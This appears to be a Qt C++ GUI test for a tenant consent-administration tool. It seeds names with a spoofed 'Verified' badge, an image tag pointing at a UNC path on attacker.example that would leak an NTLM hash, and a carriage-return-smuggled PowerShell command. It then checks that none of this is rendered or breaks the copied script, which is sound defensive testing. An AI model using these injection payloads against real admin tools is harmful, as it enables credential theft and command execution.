@@ -1,0 +1,664 @@
+// Issue 12.2 (and 12.1 in the GUI): the demo tenant with every name an outsider chooses turned hostile — app,
+// publisher, API permission names and descriptions of an app's own API, users, groups, request reasons, Exchange
+// groups and policies — each carrying "<b>✔ Verified</b>" (a spoofed badge) and "<img src=\\\\attacker…>" (a UNC
+// path Windows would follow, leaking the admin's NTLM hash). Every view and the dialogs an admin opens from them are
+// walked; every widget, label, tooltip, what's-this, status tip, item-model role, tab, combo item and action is
+// read as Qt would render it. The test fails on any rendered markup: the tags must be shown as the text they are.
+// The PowerShell the GUI shows and copies is read with PowerShell's rules too.
+#include "AppController.h"
+#include "GuiTestSupport.h"
+#include "MainWindow.h"
+#include "PowerShellShape.h"
+#include "TestPaths.h"
+#include "access/AccessView.h"
+#include "access/ScopeAppWizard.h"
+#include "activity/ActivityModel.h"
+#include "activity/ActivityView.h"
+#include "apps/AppDetailPane.h"
+#include "apps/AppListModel.h"
+#include "apps/AppsView.h"
+#include "auth/SignInManager.h"
+#include "log/Log.h"
+#include "requests/RequestDetailPane.h"
+#include "requests/RequestTableModel.h"
+#include "requests/RequestsView.h"
+#include "sandbox/SandboxServer.h"
+#include "sandbox/TenantStore.h"
+
+#include <QAbstractButton>
+#include <QAbstractItemView>
+#include <QAction>
+#include <QApplication>
+#include <QComboBox>
+#include <QDialog>
+#include <QFile>
+#include <QGroupBox>
+#include <QHeaderView>
+#include <QJsonArray>
+#include <QJsonDocument>
+#include <QJsonObject>
+#include <QLabel>
+#include <QLineEdit>
+#include <QListWidget>
+#include <QMessageBox>
+#include <QPlainTextEdit>
+#include <QPushButton>
+#include <QTabBar>
+#include <QTabWidget>
+#include <QTemporaryDir>
+#include <QTest>
+#include <QTextDocument>
+#include <QTextEdit>
+#include <QTimer>
+#include <QTreeWidget>
+
+using GuiTestSupport::waitForChild;
+using GuiTestSupport::waitUntil;
+
+namespace {
+
+const QString GlobalAdmin = QStringLiteral("adaeze.okafor@contoso.com");
+const QString MicrosoftTenant = QStringLiteral("f8cdef31-a31e-4b4a-93e4-5f571e91255a");
+const QString NorthwindAppId = QStringLiteral("0dd76e4e-34fc-4bc4-8e7d-5c8aae192ce0"); // a policy on a group
+const QString TailspinAppId = QStringLiteral("a9dcf210-df3e-43c0-af84-884c95c5944a"); // a request, a service principal
+const QString TailspinApi = QStringLiteral("api://tailspin-projects");
+const QString CohoAppId = QStringLiteral("600cec8d-d27b-4389-908c-e0264546ea50"); // mailbox permissions, no policy
+
+// What a hostile publisher puts in front of every name. Rendered as rich text, the first part is a bold "✔ Verified"
+// badge and the second an image Qt loads from the path (on Windows a UNC path: an SMB connection with the NTLM hash).
+const QString Badge = QStringLiteral("<b>\u2714 Verified</b> ");
+const QString Image = QStringLiteral("<img src=\"\\\\attacker.example\\share\\x.png\">");
+
+// And a line of its own for PowerShell, which ends a comment (and a line) at CR.
+const QString Command = QStringLiteral("\rStart-Process calc.exe # ");
+
+QString hostile(const QString& name)
+{
+    return Badge + Image + Command + name;
+}
+
+void hostileField(QJsonObject& o, const char* key)
+{
+    const QString k = QString::fromLatin1(key);
+    if (o.value(k).isString() && !o.value(k).toString().isEmpty()) {
+        o.insert(k, hostile(o.value(k).toString()));
+    }
+}
+
+template<typename F> QJsonArray mapObjects(const QJsonArray& in, F f)
+{
+    QJsonArray out;
+    for (const QJsonValue& v : in) {
+        QJsonObject o = v.toObject();
+        f(o);
+        out.append(o);
+    }
+    return out;
+}
+
+// The demo tenant with every outsider-chosen string made hostile; ids, UPNs, scope values and Exchange identities
+// stay, so everything still resolves.
+QJsonObject hostileTenant()
+{
+    QFile file(TestPaths::fixture(QStringLiteral("contoso.json")));
+    if (!file.open(QIODevice::ReadOnly)) {
+        return {};
+    }
+    QJsonObject t = QJsonDocument::fromJson(file.readAll()).object();
+    t.insert(QStringLiteral("users"), mapObjects(t.value(QStringLiteral("users")).toArray(), [](QJsonObject& u) {
+                 hostileField(u, "displayName");
+                 hostileField(u, "jobTitle");
+                 hostileField(u, "department");
+             }));
+    t.insert(QStringLiteral("groups"), mapObjects(t.value(QStringLiteral("groups")).toArray(), [](QJsonObject& g) {
+                 hostileField(g, "displayName");
+                 hostileField(g, "description");
+             }));
+    t.insert(QStringLiteral("servicePrincipals"),
+             mapObjects(t.value(QStringLiteral("servicePrincipals")).toArray(), [](QJsonObject& sp) {
+                 if (sp.value(QStringLiteral("appOwnerOrganizationId")).toString() == MicrosoftTenant) {
+                     return; // Microsoft's own apps and APIs are not the publisher's to name
+                 }
+                 hostileField(sp, "displayName");
+                 hostileField(sp, "appDisplayName");
+                 hostileField(sp, "publisherName");
+                 QJsonObject publisher = sp.value(QStringLiteral("verifiedPublisher")).toObject();
+                 hostileField(publisher, "displayName");
+                 sp.insert(QStringLiteral("verifiedPublisher"), publisher);
+                 if (sp.value(QStringLiteral("appId")).toString() == TailspinAppId) {
+                     // An app requesting a scope of its own API, named and described as its publisher likes.
+                     sp.insert(QStringLiteral("servicePrincipalNames"), QJsonArray {TailspinApi, TailspinAppId});
+                     sp.insert(
+                         QStringLiteral("oauth2PermissionScopes"),
+                         QJsonArray {QJsonObject {
+                             {QStringLiteral("id"), QStringLiteral("3f1c2c4e-8b7a-4d1e-9f6a-2b5c7d8e9f01")},
+                             {QStringLiteral("value"), QStringLiteral("Projects.ReadWrite")},
+                             {QStringLiteral("type"), QStringLiteral("User")},
+                             {QStringLiteral("isEnabled"), true},
+                             {QStringLiteral("adminConsentDisplayName"), hostile(QStringLiteral("Read projects"))},
+                             {QStringLiteral("adminConsentDescription"),
+                              hostile(QStringLiteral("Only reads your projects."))},
+                             {QStringLiteral("userConsentDisplayName"), hostile(QStringLiteral("Read projects"))},
+                             {QStringLiteral("userConsentDescription"),
+                              hostile(QStringLiteral("Only reads your projects."))}}});
+                 }
+             }));
+    t.insert(QStringLiteral("appRoleAssignments"),
+             mapObjects(t.value(QStringLiteral("appRoleAssignments")).toArray(), [](QJsonObject& a) {
+                 if (a.value(QStringLiteral("principalType")).toString() == QLatin1String("User")) {
+                     hostileField(a, "principalDisplayName");
+                 }
+             }));
+    t.insert(QStringLiteral("appConsentRequests"),
+             mapObjects(t.value(QStringLiteral("appConsentRequests")).toArray(), [](QJsonObject& r) {
+                 hostileField(r, "appDisplayName");
+                 if (r.value(QStringLiteral("appId")).toString() == TailspinAppId) {
+                     QJsonArray scopes = r.value(QStringLiteral("pendingScopes")).toArray();
+                     scopes.append(QJsonObject {{QStringLiteral("displayName"),
+                                                 QString(TailspinApi + QStringLiteral("/Projects.ReadWrite"))}});
+                     r.insert(QStringLiteral("pendingScopes"), scopes);
+                 }
+                 r.insert(QStringLiteral("userConsentRequests"),
+                          mapObjects(r.value(QStringLiteral("userConsentRequests")).toArray(), [](QJsonObject& u) {
+                              hostileField(u, "reason");
+                              QJsonObject createdBy = u.value(QStringLiteral("createdBy")).toObject();
+                              QJsonObject user = createdBy.value(QStringLiteral("user")).toObject();
+                              hostileField(user, "displayName");
+                              createdBy.insert(QStringLiteral("user"), user);
+                              u.insert(QStringLiteral("createdBy"), createdBy);
+                          }));
+             }));
+    t.insert(QStringLiteral("catalog"), mapObjects(t.value(QStringLiteral("catalog")).toArray(), [](QJsonObject& a) {
+                 hostileField(a, "displayName");
+                 hostileField(a, "publisherName");
+             }));
+    QJsonObject exchange = t.value(QStringLiteral("exchange")).toObject();
+    for (const char* key : {"mailboxes", "distributionGroups"}) {
+        exchange.insert(QString::fromLatin1(key),
+                        mapObjects(exchange.value(QString::fromLatin1(key)).toArray(),
+                                   [](QJsonObject& r) { hostileField(r, "DisplayName"); }));
+    }
+    exchange.insert(QStringLiteral("applicationAccessPolicies"),
+                    mapObjects(exchange.value(QStringLiteral("applicationAccessPolicies")).toArray(),
+                               [](QJsonObject& p) { hostileField(p, "Description"); }));
+    t.insert(QStringLiteral("exchange"), exchange);
+    return t;
+}
+
+} // namespace
+
+// Reads widgets the way Qt renders them and records every place where the hostile markup was rendered.
+class MarkupScan
+{
+public:
+    QStringList problems;
+    int seen = 0; // texts that carried the hostile markup: a walk that saw none proves nothing
+
+    static QString rendered(const QString& text, Qt::TextFormat format)
+    {
+        const bool rich = format == Qt::RichText || (format == Qt::AutoText && Qt::mightBeRichText(text));
+        if (format == Qt::MarkdownText) {
+            QTextDocument doc;
+            doc.setMarkdown(text);
+            return doc.toPlainText();
+        }
+        if (!rich) {
+            return text;
+        }
+        QTextDocument doc;
+        doc.setHtml(text);
+        return doc.toPlainText();
+    }
+
+    void check(const QString& where, const QString& raw, const QString& shown)
+    {
+        const bool image = raw.contains(QLatin1String("attacker.example"));
+        const bool badge = raw.contains(QStringLiteral("\u2714 Verified"));
+        if (!image && !badge) {
+            return;
+        }
+        ++seen;
+        if ((image && !shown.contains(QLatin1String("<img src="))) || (badge && !shown.contains(Badge.trimmed()))) {
+            problems << QStringLiteral("%1 renders the markup: %2").arg(where, raw.left(300));
+        }
+    }
+
+    void text(const QString& where, const QString& text, Qt::TextFormat format)
+    {
+        if (!text.isEmpty()) {
+            check(where, text, rendered(text, format));
+        }
+    }
+
+    void model(const QString& where, const QAbstractItemModel* model, const QModelIndex& parent = {}, int depth = 0)
+    {
+        if (!model || depth > 4) {
+            return;
+        }
+        const int rows = std::min(model->rowCount(parent), 500);
+        for (int r = 0; r < rows; ++r) {
+            for (int c = 0; c < model->columnCount(parent); ++c) {
+                const QModelIndex index = model->index(r, c, parent);
+                const QString cell = QStringLiteral("%1[%2,%3]").arg(where).arg(r).arg(c);
+                text(cell, index.data(Qt::DisplayRole).toString(), Qt::PlainText); // delegates draw plain text
+                text(cell + QStringLiteral(" tooltip"), index.data(Qt::ToolTipRole).toString(), Qt::AutoText);
+                text(cell + QStringLiteral(" what's this"), index.data(Qt::WhatsThisRole).toString(), Qt::AutoText);
+                text(cell + QStringLiteral(" status tip"), index.data(Qt::StatusTipRole).toString(), Qt::PlainText);
+                if (c == 0 && model->hasChildren(index)) {
+                    this->model(where, model, index, depth + 1);
+                }
+            }
+        }
+        for (int c = 0; c < model->columnCount(parent) && depth == 0; ++c) {
+            text(where + QStringLiteral(" header tooltip"),
+                 model->headerData(c, Qt::Horizontal, Qt::ToolTipRole).toString(),
+                 Qt::AutoText);
+        }
+    }
+
+    void widget(QWidget* w)
+    {
+        const QString where = QStringLiteral("%1 \"%2\" in %3")
+                                  .arg(QString::fromLatin1(w->metaObject()->className()),
+                                       w->objectName(),
+                                       w->window() ? w->window()->objectName() : QString());
+        text(where + QStringLiteral(" tooltip"), w->toolTip(), Qt::AutoText);
+        text(where + QStringLiteral(" what's this"), w->whatsThis(), Qt::AutoText);
+        text(where + QStringLiteral(" status tip"), w->statusTip(), Qt::PlainText);
+        if (w->isWindow()) {
+            text(where + QStringLiteral(" title"), w->windowTitle(), Qt::PlainText);
+        }
+        if (auto* label = qobject_cast<QLabel*>(w)) {
+            text(where, label->text(), label->textFormat());
+        }
+        if (auto* edit = qobject_cast<QTextEdit*>(w)) {
+            check(where, edit->toHtml(), edit->toPlainText());
+        }
+        if (auto* view = qobject_cast<QAbstractItemView*>(w)) {
+            model(where, view->model());
+        }
+        if (auto* tabs = qobject_cast<QTabBar*>(w)) {
+            for (int i = 0; i < tabs->count(); ++i) {
+                text(where + QStringLiteral(" tab"), tabs->tabText(i), Qt::PlainText);
+                text(where + QStringLiteral(" tab tooltip"), tabs->tabToolTip(i), Qt::AutoText);
+                text(where + QStringLiteral(" tab what's this"), tabs->tabWhatsThis(i), Qt::AutoText);
+            }
+        }
+        if (auto* combo = qobject_cast<QComboBox*>(w)) {
+            model(where, combo->model());
+        }
+        if (auto* box = qobject_cast<QGroupBox*>(w)) {
+            text(where, box->title(), Qt::PlainText);
+        }
+        for (QAction* action : w->actions()) {
+            text(where + QStringLiteral(" action tooltip"), action->toolTip(), Qt::AutoText);
+            text(where + QStringLiteral(" action what's this"), action->whatsThis(), Qt::AutoText);
+        }
+    }
+
+    // Every widget of the application, shown or not: a hidden label shows its text the moment it appears.
+    void all()
+    {
+        for (QWidget* w : QApplication::allWidgets()) {
+            widget(w);
+        }
+    }
+};
+
+class TestHostileTenantGui : public QObject
+{
+    Q_OBJECT
+
+private slots:
+    void initTestCase();
+    void cleanupTestCase();
+    void requestsAndTheirDialogs();
+    void appsAndTheirDialogs();
+    void users();
+    void mailboxAccessAndTheWizard();
+    void activityOfTheBlock();
+    void everyViewOnceMore();
+
+private:
+    // Scans everything; the step fails with each place that rendered markup.
+    void scan(const char* step, int minimumSeen = 1);
+    // Runs trigger, which opens a modal dialog with exec(); scans while it is open, then closes it.
+    void scanModal(const char* step, const std::function<void()>& trigger);
+    void verifyPowerShell(const QString& where, const QString& script);
+
+    QTemporaryDir m_dir;
+    std::unique_ptr<AppController> m_controller;
+    MainWindow* m_window = nullptr;
+};
+
+void TestHostileTenantGui::initTestCase()
+{
+    GuiTestSupport::initLog(m_dir);
+    const QJsonObject tenant = hostileTenant();
+    QVERIFY(!tenant.isEmpty());
+    m_controller = std::make_unique<AppController>(GuiTestSupport::demoOptions(m_dir, GlobalAdmin));
+    QVERIFY(m_controller->start());
+    // Before the event loop runs the sign-in and the first reads: the demo tenant becomes the hostile one.
+    QString error;
+    QVERIFY2(GuiTestSupport::demoSandbox(*m_controller)->store().load(tenant, &error), qPrintable(error));
+    QVERIFY(QTest::qWaitForWindowExposed(m_controller->mainWindow()));
+    m_window = m_controller->mainWindow();
+    QTRY_VERIFY_WITH_TIMEOUT(m_controller->signInManager()->isSignedIn(), 30000);
+}
+
+void TestHostileTenantGui::cleanupTestCase()
+{
+    m_controller.reset();
+    Log::shutdown();
+}
+
+void TestHostileTenantGui::scan(const char* step, int minimumSeen)
+{
+    MarkupScan s;
+    s.all();
+    QVERIFY2(
+        s.problems.isEmpty(),
+        qPrintable(
+            QStringLiteral("%1: %2 place(s) render tenant markup:\n").arg(QLatin1String(step)).arg(s.problems.size())
+            + s.problems.join(QLatin1Char('\n'))));
+    QVERIFY2(
+        s.seen >= minimumSeen,
+        qPrintable(
+            QStringLiteral("%1: the hostile names were not on screen (%2 seen)").arg(QLatin1String(step)).arg(s.seen)));
+}
+
+void TestHostileTenantGui::scanModal(const char* step, const std::function<void()>& trigger)
+{
+    bool scanned = false;
+    QStringList problems;
+    int seen = 0;
+    QTimer poll;
+    poll.setInterval(50);
+    connect(&poll, &QTimer::timeout, this, [&] {
+        QWidget* modal = QApplication::activeModalWidget();
+        if (!modal || scanned) {
+            return;
+        }
+        scanned = true;
+        MarkupScan s;
+        s.all();
+        problems = s.problems;
+        seen = s.seen;
+        if (auto* box = qobject_cast<QMessageBox*>(modal)) {
+            box->done(QMessageBox::Close);
+        } else if (auto* dialog = qobject_cast<QDialog*>(modal)) {
+            dialog->reject();
+        } else {
+            modal->close();
+        }
+    });
+    poll.start();
+    trigger();
+    QTRY_VERIFY_WITH_TIMEOUT(scanned, 20000);
+    QVERIFY2(problems.isEmpty(),
+             qPrintable(QLatin1String(step) + QStringLiteral(":\n") + problems.join(QLatin1Char('\n'))));
+    QVERIFY(seen > 0);
+}
+
+void TestHostileTenantGui::verifyPowerShell(const QString& where, const QString& script)
+{
+    QVERIFY2(!script.trimmed().isEmpty(), qPrintable(where));
+    QString commands = script;
+    commands.replace(QStringLiteral("PS> "), QString());
+    const QStringList problems = PowerShellShape::problems(commands);
+    QVERIFY2(problems.isEmpty(),
+             qPrintable(where + QStringLiteral(":\n") + problems.join(QLatin1Char('\n')) + QStringLiteral("\n---\n")
+                        + script));
+}
+
+void TestHostileTenantGui::requestsAndTheirDialogs()
+{
+    m_window->showView(QStringLiteral("requests"));
+    RequestsView* view = m_controller->requestsView();
+    QTRY_VERIFY_WITH_TIMEOUT(view->model()->rowCount() > 0, 30000);
+    auto* table = m_window->findChild<QAbstractItemView*>(QStringLiteral("requestTable"));
+    int tailspin = -1;
+    for (int row = 0; row < table->model()->rowCount(); ++row) {
+        if (table->model()
+                ->index(row, RequestTableModel::App)
+                .data()
+                .toString()
+                .endsWith(QLatin1String("Tailspin Projects"))) {
+            tailspin = row;
+        }
+    }
+    QVERIFY2(tailspin >= 0, "the hostile Tailspin request is listed");
+    const QModelIndex index = table->model()->index(tailspin, RequestTableModel::App);
+    QTest::mouseClick(table->viewport(), Qt::LeftButton, {}, table->visualRect(index).center());
+    QTRY_VERIFY_WITH_TIMEOUT(view->detail()->hasReview()
+                                 && view->detail()->review().request.appId.compare(TailspinAppId, Qt::CaseInsensitive)
+                                        == 0,
+                             30000);
+    // The permission of the app's own API, with its hostile name and description, is in the tree.
+    auto* tree = m_window->findChild<QTreeWidget*>(QStringLiteral("permissionTree"));
+    QTRY_VERIFY_WITH_TIMEOUT(!tree->findItems(QStringLiteral("Projects.ReadWrite"), Qt::MatchRecursive).isEmpty(),
+                             20000);
+    scan("Requests view", 10);
+    GuiTestSupport::saveScreenshot(m_window, QStringLiteral("hostile-requests-view.png"));
+
+    // Copy PowerShell shows the script that is copied: one command a line.
+    QTest::mouseClick(m_window->findChild<QPushButton*>(QStringLiteral("powerShellButton")), Qt::LeftButton);
+    auto* powerShell = waitForChild<QDialog>(m_window, QStringLiteral("planPreviewDialog"));
+    QVERIFY(powerShell);
+    auto* script = powerShell->findChild<QPlainTextEdit*>(QStringLiteral("planPowerShell"));
+    QVERIFY(script);
+    verifyPowerShell(QStringLiteral("Copy PowerShell"), script->toPlainText());
+    scan("PowerShell dialog");
+    powerShell->reject();
+    QTRY_VERIFY(!powerShell->isVisible());
+
+    // Grant preview, not applied.
+    QTest::mouseClick(m_window->findChild<QPushButton*>(QStringLiteral("grantSelectedButton")), Qt::LeftButton);
+    auto* preview = waitForChild<QDialog>(m_window, QStringLiteral("planPreviewDialog"));
+    QVERIFY(preview);
+    scan("grant preview");
+    preview->reject();
+    QTRY_VERIFY(!preview->isVisible());
+
+    // Deny in Entra…: a message box.
+    scanModal("Deny in Entra", [this] {
+        QTest::mouseClick(m_window->findChild<QPushButton*>(QStringLiteral("openInEntraButton")), Qt::LeftButton);
+    });
+
+    // Block, applied: the preview, the write consent, the results — and a journal entry for Activity.
+    QTest::mouseClick(m_window->findChild<QPushButton*>(QStringLiteral("blockButton")), Qt::LeftButton);
+    preview = waitForChild<QDialog>(m_window, QStringLiteral("planPreviewDialog"));
+    QVERIFY(preview);
+    scan("block preview");
+    QTest::mouseClick(preview->findChild<QPushButton*>(QStringLiteral("applyPlanButton")), Qt::LeftButton);
+    if (auto* consent = waitForChild<QDialog>(m_window, QStringLiteral("writeConsentDialog"), 5000)) {
+        QTest::mouseClick(consent->findChild<QPushButton*>(QStringLiteral("writeConsentProceed")), Qt::LeftButton);
+    }
+    auto* results = waitForChild<QDialog>(m_window, QStringLiteral("executionResultDialog"), 30000);
+    QVERIFY(results);
+    scan("block results");
+    results->close();
+}
+
+void TestHostileTenantGui::appsAndTheirDialogs()
+{
+    m_window->showView(QStringLiteral("apps"));
+    AppsView* view = m_controller->appsView();
+    QTRY_VERIFY_WITH_TIMEOUT(!view->isLoading() && view->model()->rowCount() > 0, 30000);
+    QString northwind;
+    for (int row = 0; row < view->model()->rowCount(); ++row) {
+        const QString name = view->model()->index(row, AppListModel::App).data().toString();
+        if (name.endsWith(QLatin1String("Northwind CRM"))) {
+            northwind = name;
+        }
+    }
+    QVERIFY(northwind.startsWith(Badge));
+    view->selectApp(NorthwindAppId);
+    QTRY_VERIFY_WITH_TIMEOUT(view->detail()->hasInventory()
+                                 && view->detail()->inventory().app.appId.compare(NorthwindAppId, Qt::CaseInsensitive)
+                                        == 0,
+                             30000);
+    QCOMPARE(view->detail()->inventory().app.displayName, northwind);
+    scan("Apps view", 5);
+    if (auto* tabs = m_window->findChild<QTabWidget*>(QStringLiteral("appTabs"))) {
+        for (int i = 0; i < tabs->count(); ++i) {
+            tabs->setCurrentIndex(i);
+            scan("Apps view tab");
+        }
+        tabs->setCurrentIndex(0);
+    }
+    GuiTestSupport::saveScreenshot(m_window, QStringLiteral("hostile-apps-view.png"));
+
+    QTest::mouseClick(m_window->findChild<QPushButton*>(QStringLiteral("keepOnlyButton")), Qt::LeftButton);
+    auto* keepOnly = waitForChild<QDialog>(m_window, QStringLiteral("keepOnlyDialog"));
+    QVERIFY(keepOnly);
+    scan("Keep only");
+    keepOnly->reject();
+    QTRY_VERIFY(!keepOnly->isVisible());
+
+    QTest::mouseClick(m_window->findChild<QPushButton*>(QStringLiteral("revokeAllButton")), Qt::LeftButton);
+    auto* preview = waitForChild<QDialog>(m_window, QStringLiteral("planPreviewDialog"));
+    QVERIFY(preview);
+    scan("Revoke everything preview");
+    if (auto* script = preview->findChild<QPlainTextEdit*>(QStringLiteral("planPowerShell"))) {
+        verifyPowerShell(QStringLiteral("revoke preview"), script->toPlainText());
+    }
+    preview->reject();
+    QTRY_VERIFY(!preview->isVisible());
+}
+
+void TestHostileTenantGui::users()
+{
+    m_window->showView(QStringLiteral("users"));
+    // A user who consented to an app personally, found by the start of the UPN (the display name is hostile).
+    QString target;
+    QString upn;
+    for (const QJsonObject& grant :
+         GuiTestSupport::demoSandbox(*m_controller)->store().list(QStringLiteral("oauth2PermissionGrants"))) {
+        if (grant.value(QStringLiteral("consentType")).toString() == QLatin1String("Principal")) {
+            target = grant.value(QStringLiteral("principalId")).toString();
+            break;
+        }
+    }
+    upn = GuiTestSupport::demoSandbox(*m_controller)
+              ->store()
+              .userByIdOrUpn(target)
+              .value_or(QJsonObject())
+              .value(QStringLiteral("userPrincipalName"))
+              .toString();
+    QVERIFY(!upn.isEmpty());
+    m_window->findChild<QLineEdit*>(QStringLiteral("userQuery"))->setText(upn.section(QLatin1Char('@'), 0, 0));
+    QTest::mouseClick(m_window->findChild<QPushButton*>(QStringLiteral("findUserButton")), Qt::LeftButton);
+    auto* results = m_window->findChild<QListWidget*>(QStringLiteral("userResults"));
+    QTRY_VERIFY_WITH_TIMEOUT(results->count() > 0, 30000);
+    for (int i = 0; i < results->count(); ++i) {
+        if (results->item(i)->data(Qt::UserRole).toString() == target) {
+            results->setCurrentRow(i);
+        }
+    }
+    QTRY_VERIFY_WITH_TIMEOUT(
+        m_window->findChild<QLabel*>(QStringLiteral("userTitle"))->text().contains(QLatin1String("attacker.example")),
+        30000);
+    scan("Users view", 3);
+    if (auto* tabs = m_window->findChild<QTabWidget*>(QStringLiteral("userTabs"))) {
+        for (int i = 0; i < tabs->count(); ++i) {
+            tabs->setCurrentIndex(i);
+            scan("Users view tab");
+        }
+    }
+}
+
+void TestHostileTenantGui::mailboxAccessAndTheWizard()
+{
+    m_window->showView(QStringLiteral("access"));
+    AccessView* view = m_controller->accessView();
+    QVERIFY(waitUntil(
+        [&] {
+            if (view->isLoading()) {
+                return false;
+            }
+            view->selectApp(NorthwindAppId);
+            return view->selectedAppId().compare(NorthwindAppId, Qt::CaseInsensitive) == 0;
+        },
+        30000));
+    auto* policies = view->findChild<QTreeWidget*>(QStringLiteral("policyTree"));
+    QTRY_VERIFY_WITH_TIMEOUT(policies->topLevelItemCount() > 0, 30000);
+    scan("Mailbox access view", 3);
+    verifyPowerShell(QStringLiteral("policy PowerShell"),
+                     view->findChild<QLabel*>(QStringLiteral("policyPowerShell"))->text());
+    if (auto* tabs = view->findChild<QTabWidget*>(QStringLiteral("accessTabs"))) {
+        for (int i = 0; i < tabs->count(); ++i) {
+            tabs->setCurrentIndex(i);
+            QTest::qWait(200);
+            scan("Mailbox access tab", 0);
+        }
+        tabs->setCurrentIndex(0);
+    }
+    // The RBAC tab's equivalent, once Exchange has been read.
+    auto* equivalent = view->findChild<QPlainTextEdit*>(QStringLiteral("rbacEquivalent"));
+    QVERIFY(equivalent);
+    QTRY_VERIFY_WITH_TIMEOUT(!equivalent->toPlainText().startsWith(QLatin1String("# Reading")), 30000);
+    verifyPowerShell(QStringLiteral("RBAC equivalent"), equivalent->toPlainText());
+    GuiTestSupport::saveScreenshot(m_window, QStringLiteral("hostile-access-view.png"));
+
+    // An app without a policy: the RBAC tab's comment names it (RbacPanel wrote the name raw into a "# …" line).
+    QVERIFY(waitUntil(
+        [&] {
+            view->selectApp(CohoAppId);
+            return view->selectedAppId().compare(CohoAppId, Qt::CaseInsensitive) == 0;
+        },
+        30000));
+    QTRY_VERIFY_WITH_TIMEOUT(equivalent->toPlainText().contains(QLatin1String("no RestrictAccess policy")), 30000);
+    QVERIFY(equivalent->toPlainText().contains(QLatin1String("attacker.example")));
+    verifyPowerShell(QStringLiteral("RBAC tab of an app without a policy"), equivalent->toPlainText());
+    QVERIFY(waitUntil(
+        [&] {
+            view->selectApp(NorthwindAppId);
+            return view->selectedAppId().compare(NorthwindAppId, Qt::CaseInsensitive) == 0;
+        },
+        30000));
+
+    view->findChild<QPushButton*>(QStringLiteral("scopeApp"))->click();
+    ScopeAppWizard* wizard = nullptr;
+    QTRY_VERIFY_WITH_TIMEOUT((wizard = view->wizard()) && wizard->isVisible(), 20000);
+    QTest::qWait(500);
+    scan("Scope an app: the app");
+    wizard->next();
+    QTest::qWait(500);
+    scan("Scope an app: the group", 0);
+    if (auto* groups = wizard->findChild<QComboBox*>(QStringLiteral("groupCombo"))) {
+        QTRY_VERIFY_WITH_TIMEOUT(groups->count() > 0, 20000);
+        scan("Scope an app: the groups listed");
+    }
+    for (const char* name : {"appPowerShell", "groupPowerShell"}) {
+        if (auto* label = wizard->findChild<QLabel*>(QString::fromLatin1(name)); label && !label->text().isEmpty()) {
+            verifyPowerShell(QString::fromLatin1(name), label->text());
+        }
+    }
+    wizard->reject();
+    QTRY_VERIFY(!wizard->isVisible());
+}
+
+void TestHostileTenantGui::activityOfTheBlock()
+{
+    m_window->showView(QStringLiteral("activity"));
+    ActivityView* view = m_controller->activityView();
+    view->reload();
+    QTRY_VERIFY_WITH_TIMEOUT(view->model()->rowCount() > 0, 20000);
+    auto* table = m_window->findChild<QAbstractItemView*>(QStringLiteral("activityTable"));
+    table->setCurrentIndex(table->model()->index(0, 0));
+    QTest::qWait(200);
+    scan("Activity view", 2);
+}
+
+void TestHostileTenantGui::everyViewOnceMore()
+{
+    for (const QString& id : m_window->viewIds()) {
+        m_window->showView(id);
+        QTest::qWait(300);
+        scan(qPrintable(QStringLiteral("view ") + id), 0);
+    }
+}
+
+QTEST_MAIN(TestHostileTenantGui)
+#include "TestHostileTenantGui.moc"
